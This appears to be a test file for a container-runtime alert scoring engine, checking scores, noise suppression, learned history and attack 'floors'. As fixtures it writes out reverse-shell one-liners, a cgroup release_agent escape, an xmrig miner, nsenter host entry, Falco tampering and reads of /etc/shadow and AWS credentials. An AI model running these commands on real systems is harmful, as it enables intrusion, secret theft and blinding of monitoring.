import { env } from 'node:process';
import { type Event, type Identity, nanosOfMs, PRIORITIES, type Score } from '@eyrie/schemas';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATALOGUE } from './catalogue.ts';
import { restoreHistory, ScoreHistory } from './history.ts';
import { learn } from './learn.ts';
import { anEvent, HOUR, IDENTITY, T0 } from './score.test-support.ts';
import { scoreEvent } from './score.ts';
import { LEARNED_BENIGN_MIN, NOVELTY_MAX } from './weights.ts';

const runs = Math.round(300 * Number(env['EYRIE_TEST_RUNS'] ?? 1));
const logit = (p: number) => Math.log(p / (1 - p));
const term = (score: Score, feature: string) => score.reasons.find((reason) => reason.feature === feature)?.log_odds;

/** Judges and learns, as the judge does. */
function take(history: ScoreHistory, event: Event, identity: Identity = IDENTITY): Score {
  const score = scoreEvent(history, { event, identity });
  learn(history, { event, identity }, score);
  return score;
}

/** A controller that calls the API every hour from three pods: the noise every cluster has. */
function matured(days: number, fields: Partial<Event> = {}): ScoreHistory {
  const history = new ScoreHistory();
  for (let hour = 0; hour < days * 24; hour += 1) {
    for (let pod = 0; pod < 3; pod += 1) {
      take(history, anEvent(fields, hour * HOUR + pod), { ...IDENTITY, pod_uid: `uid-${pod}` });
      take(history, anEvent({ process_name: `other-${pod}`, ...fields }, hour * HOUR + pod), IDENTITY);
    }
  }
  return history;
}

const anyEvent = fc
  .record(
    {
      rule: fc.constantFrom(...[...CATALOGUE.keys()].slice(0, 60), 'a rule of our own'),
      priority: fc.constantFrom(...PRIORITIES),
      process_name: fc.constantFrom('sh', 'nc', 'runc', 'app', 'nsenter'),
      parent_name: fc.constantFrom('nginx', 'runc', 'app'),
      process_executable: fc.constantFrom('/tmp/x', 'memfd:runc', '/usr/bin/app'),
      command_line: fc.oneof(fc.string(), fc.constantFrom('nc -e /bin/sh 1.2.3.4 4444', 'cat /etc/shadow', 'exe init')),
      file_name: fc.constantFrom('/etc/shadow', '/root/.aws/credentials', '/release_agent', '/x'),
      exe_flags: fc.constantFrom('EXE_UPPER_LAYER', 'EXE_FROM_MEMFD', 'O_WRONLY'),
      tty: fc.constantFrom(0, 34816),
      user_id: fc.constantFrom(0, 1000),
      remote_ip: fc.constantFrom('169.254.169.254', '10.0.0.1', '8.8.8.8'),
      remote_port: fc.constantFrom(443, 3333),
      container_id: fc.constantFrom('host', 'aabbccddeeff'),
      container_started_at: fc.constantFrom(T0, T0 - HOUR),
      privileged: fc.boolean(),
      maturity: fc.constantFrom('stable' as const, 'incubating' as const, 'sandbox' as const),
    },
    { requiredKeys: ['rule', 'priority'] },
  )
  .chain((fields) => fc.nat(30 * 24).map((hour) => ({ fields, hour })));

function bare(fields: Partial<Event>, hour: number): Event {
  const { rule, priority, v, event_id, tenant, cluster, source, time, received_at, routing_key, salient, raw_pos } =
    anEvent({}, hour * HOUR);
  return {
    v,
    event_id,
    tenant,
    cluster,
    source,
    rule,
    priority,
    time,
    received_at,
    routing_key,
    salient,
    raw_pos,
    ...fields,
  };
}

describe('a score', () => {
  it('is the sum of its reasons, whatever was learned', () => {
    fc.assert(
      fc.property(fc.array(anyEvent, { maxLength: 40 }), (list) => {
        const history = new ScoreHistory();
        for (const { fields, hour } of list) {
          const score = take(history, bare(fields, hour));
          const sum = score.reasons.reduce((total, { log_odds }) => total + log_odds, 0);
          expect(Math.abs(logit(score.p_attack) - sum)).toBeLessThan(1e-9);
          expect(score.fp_score + score.p_attack).toBeCloseTo(1, 12);
          expect(score.reasons[0]?.feature).toBe('bias');
          expect(score.reasons.every(({ log_odds }) => log_odds !== 0)).toBe(true);
          if (score.floor !== undefined) expect(['review', 'page']).toContain(score.band);
          const novelty = score.reasons.filter(({ feature }) => feature.startsWith('new_'));
          expect(novelty.reduce((total, { log_odds }) => total + log_odds, 0)).toBeLessThanOrEqual(NOVELTY_MAX + 1e-5);
        }
      }),
      { numRuns: runs },
    );
  });

  it('is the same again: nothing but event and history is read', () => {
    const history = matured(2);
    const event = anEvent({}, 3 * 24 * HOUR);
    expect(scoreEvent(history, { event, identity: IDENTITY })).toEqual(
      scoreEvent(history, { event, identity: IDENTITY }),
    );
  });

  it('takes a missing field as neutral and names it', () => {
    const history = new ScoreHistory();
    const whole = scoreEvent(history, { event: anEvent(), identity: IDENTITY });
    const { tty: _, exe_flags: __, user_id: ___, process_executable: ____, ...rest } = anEvent();
    const score = scoreEvent(history, { event: rest, identity: {} });
    expect(score.p_attack).toBe(whole.p_attack);
    expect(score.unknown).toEqual(
      expect.arrayContaining(['drift', 'volatile_path', 'terminal_shell', 'unusual_root', 'workload']),
    );
    expect(whole.unknown).toEqual([]);
  });

  it('says nothing of novelty before the tenant has a history, and much after', () => {
    const stranger = { process_name: 'xz', process_executable: '/usr/bin/xz' };
    expect(
      term(scoreEvent(new ScoreHistory(), { event: anEvent(stranger), identity: IDENTITY }), 'new_process'),
    ).toBeUndefined();
    const score = scoreEvent(matured(7), { event: anEvent(stranger, 7 * 24 * HOUR), identity: IDENTITY });
    expect(term(score, 'new_process')).toBeCloseTo(1.6);
  });
});

describe('suppression', () => {
  const DAYS = 15;
  const score = (history: ScoreHistory, fields: Partial<Event> = {}, identity = IDENTITY) =>
    scoreEvent(history, { event: anEvent(fields, DAYS * 24 * HOUR), identity });

  it('comes with a long, broad, harmless record', () => {
    const hidden = score(matured(DAYS));
    expect(hidden.band).toBe('suppress');
    expect(hidden.p_attack).toBeLessThan(0.002);
    expect(term(hidden, 'recurrence')).toBeGreaterThanOrEqual(LEARNED_BENIGN_MIN);
  });

  it.each([
    ['a young tenant', matured(2), {}, IDENTITY],
    ['a process nobody saw', matured(DAYS), { process_name: 'xz' }, IDENTITY],
    ['a floor', matured(DAYS), { command_line: 'xmrig -o stratum+tcp://pool:3333' }, IDENTITY],
    ['another image digest', matured(DAYS, { image_digest: 'sha256:1' }), { image_digest: 'sha256:2' }, IDENTITY],
    ['another workload', matured(DAYS), {}, { ...IDENTITY, workload: 'cart' }],
  ])('never for %s', (_, history, fields, identity) => {
    expect(score(history, fields, identity).band).not.toBe('suppress');
  });

  it('is not bought by a flood: it teaches no more than one event', () => {
    const history = matured(DAYS);
    const beacon = { process_name: 'beacon', process_executable: '/usr/bin/beacon' };
    take(history, anEvent(beacon, DAYS * 24 * HOUR));
    const once = score(history, beacon);
    for (let i = 1; i < 10_000; i += 1) take(history, anEvent(beacon, DAYS * 24 * HOUR + i));
    expect(score(history, beacon)).toEqual(once);
    expect(once.band).not.toBe('suppress');
  });

  it('never learns from what was judged review or above', () => {
    const history = new ScoreHistory();
    for (let hour = 0; hour < DAYS * 24; hour += 1) {
      take(history, anEvent({ rule: 'Fileless execution via memfd_create', priority: 'Critical' }, hour * HOUR));
    }
    const fields = { rule: 'Fileless execution via memfd_create', priority: 'Critical' } as const;
    expect(term(score(history, fields), 'recurrence')).toBeUndefined();
  });

  it('of another tenant says nothing', () => {
    const history = matured(DAYS);
    const other = score(history, { tenant: 'globex' as Event['tenant'] });
    expect(other.band).not.toBe('suppress');
  });
});

describe('floors', () => {
  it.each([
    ['release_agent', { command_line: 'sh -c echo x > /tmp/cgrp/release_agent' }],
    ['memfd', { process_executable: 'memfd:payload' }],
    ['memfd', { exe_flags: 'EXE_WRITABLE|EXE_FROM_MEMFD' }],
    ['kernel_module', { rule: 'Linux Kernel Module Injection Detected' }],
    ['miner', { process_name: 'xmrig', command_line: './xmrig -o pool:1' }],
    ['reverse_shell', { command_line: 'bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1' }],
    ['reverse_shell', { command_line: 'nc -e /bin/sh 203.0.113.9 443' }],
    ['sensor_tampering', { command_line: 'pkill -9 falco' }],
    ['namespace_change', { process_name: 'nsenter', command_line: 'nsenter -t 1 -m sh' }],
    ['namespace_change', { event_type: 'setns', process_name: 'runc' }],
  ])('%s %o', (floor, fields) => {
    const score = scoreEvent(new ScoreHistory(), { event: anEvent(fields), identity: IDENTITY });
    expect(score.floor).toBe(floor);
    expect(['review', 'page']).toContain(score.band);
  });

  it.each([
    { event_type: 'setns', process_name: 'runc', container_id: 'host' },
    { command_line: 'nc -z db 5432' },
    { command_line: 'systemctl restart nginx' },
    { command_line: 'grep -c falcon /etc/motd' },
    { file_name: '/proc/self/status' },
  ])('none for %o', (fields) => {
    expect(scoreEvent(new ScoreHistory(), { event: anEvent(fields), identity: IDENTITY }).floor).toBeUndefined();
  });

  it('hold against padding', () => {
    const command_line = `sh -c ${' '.repeat(100_000)} cat /dev/tcp/203.0.113.9/443`;
    expect(scoreEvent(new ScoreHistory(), { event: anEvent({ command_line }), identity: {} }).floor).toBe(
      'reverse_shell',
    );
  });
});

describe('the history', () => {
  it('leaves out what nobody of ours wrote', () => {
    const left: string[] = [];
    const entries = ['\u0000', 'null', '{}', '{"f":1,"key":"k","row":null}'].map(
      (value, at) => [`history/acme/rule/${at}`, Buffer.from(value)] as const,
    );
    expect(restoreHistory(entries, (name) => left.push(name)).takeChanges()).toEqual([]);
    expect(left).toEqual(entries.map(([name]) => name));
  });

  it('comes back from its changelog as it was', () => {
    const history = matured(9);
    const log = new Map<string, Buffer>();
    for (const [key, value] of history.takeChanges()) if (value !== null) log.set(key, value);
    const again = restoreHistory(log, (name) => expect.fail(name));
    expect(again.takeChanges()).toEqual([]);
    const event = anEvent({}, 9 * 24 * HOUR);
    expect(scoreEvent(again, { event, identity: IDENTITY })).toEqual(
      scoreEvent(history, { event, identity: IDENTITY }),
    );
  });

  it('is bounded, counts what it forgets, and forgets toward alarm', () => {
    const history = new ScoreHistory({ process: 10 });
    for (let i = 0; i < 25; i += 1) {
      const event = anEvent({ process_name: `app${'x'.repeat(i)}`, time: nanosOfMs(T0 + i) });
      learn(history, { event, identity: IDENTITY }, { band: 'low' });
    }
    expect(history.takeEvicted()).toBe(15);
    expect(history.takeEvicted()).toBe(0);
    expect(history.takeChanges().filter(([key, value]) => key.includes('/process/') && value === null)).toHaveLength(
      15,
    );
  });

  it('writes nothing for what it knows: a process counts once an hour', () => {
    const history = new ScoreHistory();
    take(history, anEvent());
    history.takeChanges();
    for (let i = 0; i < 100; i += 1) take(history, anEvent({}, i));
    expect(history.takeChanges()).toEqual([]);
  });
});

it('the catalogue holds the 93 upstream rules, 25 stable, 31 incubating, 37 sandbox', () => {
  const count = (maturity: string) => [...CATALOGUE.values()].filter((rule) => rule.maturity === maturity).length;
  expect([CATALOGUE.size, count('stable'), count('incubating'), count('sandbox')]).toEqual([93, 25, 31, 37]);
});
